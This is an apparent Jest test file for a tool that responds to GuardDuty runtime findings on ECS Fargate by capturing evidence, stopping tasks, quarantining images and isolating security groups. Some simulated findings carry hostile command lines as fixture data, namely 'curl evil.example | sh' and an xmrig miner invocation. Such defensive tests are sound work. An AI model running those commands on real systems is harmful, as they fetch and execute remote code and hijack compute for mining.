/**
 * The runtime threat response end to end offline: the project's EventBridge rule, the real
 * `statemachines/runtime-threat-response.asl.json`, the real Lambda handlers and the sandbox account.
 * Every test builds its own Simulator, so no state leaks between scenarios.
 */
import { DEFAULT_CONFIG, parseConfig } from '../../definitions/config';
import { Simulator } from '../../local/engine';
import { runtimeEvent } from '../../local/fixtures/events';
import { executionMetrics, mutatingCalls } from '../../local/report';
import {
  CLUSTER,
  callsTo,
  ECS_EC2_ECR,
  EXEMPT_KEY,
  execution,
  FINDING_ID,
  IMAGE,
  type Input,
  imageDetail,
  inputOf,
  objects,
  only,
  parts,
  REPOSITORY,
  REVOKES,
  rulesOf,
  SERVICE,
  TASK_ARN,
  TASK_ID,
} from '../helpers/runtime-response';

describe('High severity Fargate finding', () => {
  const event = () =>
    runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8, taskTags: { team: 'payments' } });

  it('captures evidence, stops the task once, quarantines its image, revokes nothing and notifies once', async () => {
    // Arrange
    const simulator = new Simulator();

    // Act
    const result = await simulator.processEvent(event());

    // Assert: the rule and the execution
    expect(result.matchedRules).toEqual(['RuntimeThreatRule']);
    const run = execution(result);
    expect(run.status).toBe('SUCCEEDED');

    // Evidence before action: the raw event as delivered (event.json), then the finding, enrichment and plan.
    const evidenceOf = (name: string) =>
      callsTo(result, 's3', 'PutObject').find((c) => {
        const key = String(inputOf(c).Key);
        return key.startsWith(`incidents/${FINDING_ID}/`) && key.endsWith(`/${name}`);
      });
    const raw = evidenceOf('event.json');
    const evidence = evidenceOf('evidence.json');
    const stop = only(callsTo(result, 'ecs', 'StopTask'));
    expect(raw).toBeDefined();
    expect(JSON.parse(objects(simulator)[String(inputOf(raw).Key)] ?? '{}')).toEqual(event());
    expect(evidence).toBeDefined();
    expect(raw?.endSeq).toBeLessThan(stop.startSeq);
    expect(evidence?.endSeq).toBeLessThan(stop.startSeq);
    expect(inputOf(stop)).toMatchObject({ task: TASK_ARN });
    const reason = String(inputOf(stop).reason);
    expect(reason.length).toBeLessThanOrEqual(255);
    expect(reason).toContain(FINDING_ID);

    // ECR: only the image's repository.
    const ecrCalls = callsTo(result, 'ecr');
    expect(ecrCalls.length).toBeGreaterThan(0);
    for (const call of ecrCalls) {
      const input = inputOf(call);
      const repositories = input.repositoryNames ?? [input.repositoryName];
      expect({ operation: call.operation, repositories }).toEqual({
        operation: call.operation,
        repositories: [REPOSITORY],
      });
    }
    only(callsTo(result, 'sns', 'Publish'));

    // The stop is requested (it completes later on the sandbox clock) and AWS deleted the tags (the evidence kept them).
    const task = simulator.account.ecs.getTask(TASK_ARN);
    expect(task).toMatchObject({ desiredStatus: 'STOPPED', stopCode: 'UserInitiated' });
    expect(task?.tags).toEqual([]);
    const stored = JSON.parse(objects(simulator)[String(inputOf(evidence).Key)] ?? '{}') as {
      assessment?: { enrichment?: { taskTags?: Record<string, string> } };
    };
    expect(stored.assessment?.enrichment?.taskTags).toEqual({ team: 'payments' });

    // The image: tags moved to a quarantine tag, digest archived.
    const digest = task?.containers[0]?.imageDigest;
    expect(digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const image = await imageDetail(simulator, digest ?? '');
    expect(image.imageStatus).toBe('ARCHIVED');
    expect(image.imageTags).toHaveLength(1);
    expect(image.imageTags?.[0]).toMatch(/^quarantine-/);
    expect(image.imageTags).not.toContain('v1.4.2');

    // No isolation after the stop: the stop is the containment, and the group is the service's (issue 14).
    const eniId = task?.eni?.networkInterfaceId ?? '';
    const enis = (await simulator.account.call('ec2', 'DescribeNetworkInterfaces', {
      NetworkInterfaceIds: [eniId],
    })) as { NetworkInterfaces?: { Groups?: { GroupId?: string }[] }[] };
    const groupId = only(only(enis.NetworkInterfaces ?? []).Groups ?? []).GroupId ?? '';
    expect((await rulesOf(simulator, groupId)).length).toBeGreaterThan(0);
    expect(result.apiCalls.filter((c) => REVOKES.includes(c.operation))).toEqual([]);
    expect(objects(simulator)[`incidents/${FINDING_ID}/isolation.json`]).toBeUndefined();

    // The notification.
    const notification = only(result.notifications);
    expect(notification.subject).toContain('contained');
    expect(notification.attributes).toMatchObject({ severity: '8', action: 'contained', cluster: CLUSTER });
    const { chat } = parts(notification);
    expect(chat.metadata.threadId).toBe(FINDING_ID);
    expect(chat.metadata.eventType).toBe('contained');

    // The critical path and the cost.
    const metrics = executionMetrics(run, result.apiCalls);
    expect(metrics.toStopTask?.transitions).toBeLessThanOrEqual(9);
    expect(metrics.toStopTask?.roundTrips).toBeLessThanOrEqual(6);
    expect(metrics.toStopTask?.lambdaTasks).toBeLessThanOrEqual(2);
    // 21 for the response, 1 for the organization counter's trim (issue 16, off the critical path), 3 for the
    // Security Hub choice after the notification (setting, choice, done).
    expect(run.stateTransitions).toBeLessThanOrEqual(25);
  });

  it("the service's replacement task cannot start from the quarantined image", async () => {
    // Arrange
    const simulator = new Simulator();

    // Act
    await simulator.processEvent(event());

    // Assert
    const replacements = simulator.account.ecs
      .snapshot()
      .tasks.filter((t) => t.group === `service:${SERVICE}` && t.id !== TASK_ID);
    expect(replacements.length).toBeGreaterThan(0);
    for (const replacement of replacements) {
      expect(replacement.lastStatus).toBe('STOPPED');
      expect(replacement.stoppedReason).toMatch(/CannotPullContainerError/);
    }
  });
});

describe('repeats of a finding', () => {
  it('a repeat with a higher count is an Update in the same thread, with no second stop', async () => {
    // Arrange
    const simulator = new Simulator();
    const first = await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8 }),
    );

    // Act
    const repeat = await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8, count: 3 }),
    );

    // Assert
    expect(execution(first).status).toBe('SUCCEEDED');
    expect(execution(repeat).status).toBe('SUCCEEDED');
    expect(callsTo(repeat, 'ecs', 'StopTask')).toEqual([]);
    expect(mutatingCalls(repeat.apiCalls)).toEqual([]);
    const notification = only(repeat.notifications);
    expect(notification.subject).toMatch(/Update/);
    expect(notification.attributes.action).toBe('repeat');
    const { chat } = parts(notification);
    expect(chat.content.title).toContain('Update');
    expect(chat.metadata.threadId).toBe(parts(only(first.notifications)).chat.metadata.threadId);
    expect(chat.metadata.threadId).toBe(FINDING_ID);
  });

  it('a repeat keeps its new details as evidence (issue 14, defect 12)', async () => {
    // Arrange
    const simulator = new Simulator();
    await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8, commandLine: 'xmrig --donate 0' }),
    );

    // Act
    const repeat = await simulator.processEvent(
      runtimeEvent({
        id: FINDING_ID,
        taskId: TASK_ID,
        severity: 8,
        count: 3,
        commandLine: 'curl evil.example | sh',
      }),
    );

    // Assert
    const run = execution(repeat);
    expect(run.states).toEqual(
      expect.arrayContaining(['RecordRepeat', 'CaptureRepeatEvidence', 'NotifyRepeat']),
    );
    const name = run.executionArn.split(':').pop() ?? '';
    const body = objects(simulator)[`incidents/${FINDING_ID}/${name}/repeat.json`];
    expect(body).toBeDefined();
    const saved = JSON.parse(body ?? '{}') as {
      finding: { count: number; process?: { commandLine?: string } };
    };
    expect(saved.finding.count).toBe(3);
    expect(JSON.stringify(saved)).toContain('curl evil.example | sh');
  });

  it('a duplicate delivery of the same occurrence sends nothing new', async () => {
    // Arrange
    const simulator = new Simulator();
    await simulator.processEvent(runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8 }));
    await simulator.processEvent(runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8, count: 3 }));

    // Act
    const duplicate = await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8, count: 3 }),
    );

    // Assert
    const run = execution(duplicate);
    expect(run.status).toBe('SUCCEEDED');
    expect(run.states).toContain('DuplicateDelivery');
    expect(duplicate.notifications).toEqual([]);
    expect(mutatingCalls(duplicate.apiCalls)).toEqual([]);
    expect(callsTo(duplicate, 's3', 'PutObject')).toEqual([]);
  });
});

describe('severity bands', () => {
  it('Medium isolates a standalone task in place, does not stop or touch ECR, and recommends the stop', async () => {
    // Arrange
    const simulator = new Simulator();

    // Act
    const result = await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 5, service: null }),
    );

    // Assert
    expect(execution(result).status).toBe('SUCCEEDED');
    const changed = mutatingCalls(result.apiCalls).map((c) => `${c.service}:${c.operation}`);
    expect(changed).toEqual(
      expect.arrayContaining(['ec2:RevokeSecurityGroupIngress', 'ec2:RevokeSecurityGroupEgress']),
    );
    expect(callsTo(result, 'ecs', 'StopTask')).toEqual([]);
    expect(changed.filter((c) => c.startsWith('ecr:'))).toEqual([]);
    expect(simulator.account.ecs.getTask(TASK_ARN)?.desiredStatus).toBe('RUNNING');
    const notification = only(result.notifications);
    expect(notification.attributes.action).toBe('isolated');
    const { email } = parts(notification);
    expect(email).toContain('Stop the task if the activity is confirmed');
    expect(email).toContain(`shield-right respond --finding-id ${FINDING_ID} --force`);
  });

  it('Low is notified only and changes nothing', async () => {
    // Arrange
    const simulator = new Simulator();

    // Act
    const result = await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 2 }),
    );

    // Assert
    expect(execution(result).status).toBe('SUCCEEDED');
    expect(mutatingCalls(result.apiCalls)).toEqual([]);
    expect(simulator.account.ecs.getTask(TASK_ARN)?.desiredStatus).toBe('RUNNING');
    const notification = only(result.notifications);
    expect(notification.attributes).toMatchObject({ action: 'notify-only', severity: '2' });
    expect(parts(notification).email).toContain('below the isolation threshold');
  });
});

describe('exemptions: notified only, with the reason', () => {
  const cases: {
    name: string;
    options: ConstructorParameters<typeof Simulator>[0];
    event: Input;
    why: string;
  }[] = [
    {
      // A task tag counts only where the configuration declares the key guarded (IAM/SCP, README).
      name: 'task tag, the key declared guarded',
      options: { config: { ...DEFAULT_CONFIG, exemptTaskTagGuarded: true } },
      event: runtimeEvent({
        id: FINDING_ID,
        taskId: TASK_ID,
        severity: 9,
        taskTags: { [EXEMPT_KEY]: 'true' },
      }),
      why: `the task is tagged ${EXEMPT_KEY}=true`,
    },
    {
      name: 'service tag',
      options: {
        scenario: {
          services: [{ cluster: CLUSTER, name: SERVICE, image: IMAGE, tags: { [EXEMPT_KEY]: 'true' } }],
        },
      },
      event: runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 9 }),
      why: `service ${SERVICE} is tagged ${EXEMPT_KEY}=true`,
    },
    {
      name: 'cluster tag',
      options: {},
      event: runtimeEvent({
        id: FINDING_ID,
        taskId: TASK_ID,
        severity: 9,
        clusterTags: { [EXEMPT_KEY]: 'TRUE' },
      }),
      why: `cluster ${CLUSTER} is tagged ${EXEMPT_KEY}=true`,
    },
    {
      name: 'protectedClusters',
      options: { config: { ...DEFAULT_CONFIG, protectedClusters: [CLUSTER] } },
      event: runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 9 }),
      why: `cluster ${CLUSTER} is in protectedClusters`,
    },
  ];

  it.each(cases)('$name', async ({ options, event, why }) => {
    // Arrange
    const simulator = new Simulator(options);

    // Act
    const result = await simulator.processEvent(event);

    // Assert
    expect(execution(result).status).toBe('SUCCEEDED');
    expect(mutatingCalls(result.apiCalls)).toEqual([]);
    expect(simulator.account.ecs.getTask(TASK_ARN)?.desiredStatus).toBe('RUNNING');
    const notification = only(result.notifications);
    expect(notification.attributes.action).toBe('exempt');
    expect(parts(notification).email).toContain(`exempt: ${why}`);
  });
});

describe('notify-only situations', () => {
  it('a GuardDuty sample finding is notified only and labelled sample', async () => {
    // Arrange
    const simulator = new Simulator();

    // Act
    const result = await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8, sample: true }),
    );

    // Assert
    expect(execution(result).status).toBe('SUCCEEDED');
    expect(mutatingCalls(result.apiCalls)).toEqual([]);
    const notification = only(result.notifications);
    expect(notification.attributes.action).toBe('sample');
    expect(notification.subject).toMatch(/sample/);
    const { chat, email } = parts(notification);
    expect(chat.content.title).toContain('sample finding');
    expect(email).toContain('GuardDuty sample finding');
  });

  it('observe mode changes nothing and lists what contain would have done', async () => {
    // Arrange
    const simulator = new Simulator({ mode: 'observe' });

    // Act
    const result = await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8 }),
    );

    // Assert
    expect(execution(result).status).toBe('SUCCEEDED');
    expect(mutatingCalls(result.apiCalls)).toEqual([]);
    expect(simulator.account.ecs.getTask(TASK_ARN)?.desiredStatus).toBe('RUNNING');
    const notification = only(result.notifications);
    expect(notification.attributes.action).toBe('observe');
    const { email } = parts(notification);
    const wouldHaveDone = email.split('\n').find((line) => line.startsWith('Would have done:')) ?? '';
    for (const action of ['stop the task', 'tag the service', 'quarantine the image']) {
      expect(wouldHaveDone).toContain(action);
    }
    // The stop is the containment: nothing would have been isolated after it.
    expect(wouldHaveDone).not.toContain('isolate the task');
  });

  it('a cluster-level finding without task details is handled and notified, with no task action', async () => {
    // Arrange
    const simulator = new Simulator();

    // Act
    const result = await simulator.processEvent(
      runtimeEvent({ id: FINDING_ID, severity: 8, withoutTask: true }),
    );

    // Assert
    expect(execution(result).status).toBe('SUCCEEDED');
    expect(callsTo(result, 'ecs')).toEqual([]);
    expect(mutatingCalls(result.apiCalls)).toEqual([]);
    const notification = only(result.notifications);
    expect(notification.attributes).toMatchObject({ action: 'notify-only', cluster: CLUSTER });
    expect(parts(notification).email).toContain('cluster-level finding without task details');
  });
});

describe('invalid findings that still match the rule', () => {
  const withoutId = (): Input => {
    const event = runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8 });
    delete (event.detail as Input).id;
    return event;
  };
  const withBadTaskArn = (): Input => {
    const event = runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8 });
    const detail = event.detail as { resource: { ecsClusterDetails: { taskDetails: Input } } };
    detail.resource.ecsClusterDetails.taskDetails.arn = 'arn:aws:ecs:us-east-1:111122223333:task/not a task';
    return event;
  };

  const withDetail = (change: (detail: Input) => void) => (): Input => {
    const event = runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8 });
    change(event.detail as Input);
    return event;
  };
  const service = (detail: Input): Input => detail.service as Input;

  it('a well-formed finding below minimumSeverity matches no rule: the floor still filters', () => {
    const simulator = new Simulator({ config: parseConfig({ minimumSeverity: 7 }) });
    expect(simulator.matchRules(runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 5 }))).toEqual([]);
    expect(simulator.matchRules(runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 7 }))).toEqual([
      'RuntimeThreatRule',
    ]);
  });

  it.each([
    { name: 'missing detail.id', build: withoutId, field: 'detail.id' },
    { name: 'malformed task ARN', build: withBadTaskArn, field: 'taskDetails.arn' },
    // A schema change upstream must be loud, not a rule that silently stops matching (issue 14, defect 11).
    ...(
      [
        ['severity as a string', (d: Input) => Object.assign(d, { severity: 'HIGH' })],
        ['severity "NaN"', (d: Input) => Object.assign(d, { severity: 'NaN' })],
        ['severity -1', (d: Input) => Object.assign(d, { severity: -1 })],
        ['severity 11', (d: Input) => Object.assign(d, { severity: 11 })],
        ['severity null', (d: Input) => Object.assign(d, { severity: null })],
        ['no severity', (d: Input) => delete d.severity],
        ['severity true', (d: Input) => Object.assign(d, { severity: true })],
      ] as const
    ).map(([name, change]) => ({ name, build: withDetail(change), field: 'detail.severity' })),
    {
      name: 'no service',
      build: withDetail((d) => delete d.service),
      field: 'detail.service',
    },
    {
      name: 'featureName null',
      build: withDetail((d) => Object.assign(service(d), { featureName: null })),
      field: 'detail.service.featureName',
    },
    {
      name: 'no featureName',
      build: withDetail((d) => delete service(d).featureName),
      field: 'detail.service.featureName',
    },
  ])('$name: rejected, stored, alerted, nothing touched', async ({ build, field }) => {
    // Arrange
    const simulator = new Simulator();
    const event = build();

    // Act
    const result = await simulator.processEvent(event);

    // Assert
    expect(result.matchedRules).toEqual(['RuntimeThreatRule']);
    const run = execution(result);
    expect(run.status).toBe('FAILED');
    expect(run.error).toBe('InvalidFindingError');
    expect(run.cause).toContain(field);
    const rejected = Object.entries(objects(simulator)).filter(([key]) => key.startsWith('rejected/'));
    const [, body] = only(rejected);
    expect(JSON.parse(body)).toMatchObject(event);
    const alert = only(result.notifications);
    expect(alert.attributes.action).toBe('invalid-input');
    expect(result.apiCalls.filter((c) => ECS_EC2_ECR.includes(c.service))).toEqual([]);
  });
});
